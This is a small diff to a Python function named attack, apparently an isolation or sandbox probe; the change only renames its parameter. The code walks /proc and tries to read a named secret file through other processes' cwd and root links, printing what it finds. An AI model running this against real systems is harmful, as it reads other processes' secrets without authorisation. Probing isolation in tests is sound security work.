@@ -3,11 +3,11 @@
 import os
 
 
-def attack(told: dict[str, str]) -> None:
-    name = os.path.basename(told["secret_file"])
+def attack(facts: dict[str, str]) -> None:
+    name = os.path.basename(facts["secret_file"])
     for pid in filter(str.isdigit, os.listdir("/proc")):
         if int(pid) != os.getpid():
-            for way in (f"cwd/{name}", "root" + told["secret_file"]):
+            for way in (f"cwd/{name}", "root" + facts["secret_file"]):
                 try:
                     print(open(f"/proc/{pid}/{way}").read())
                 except OSError:
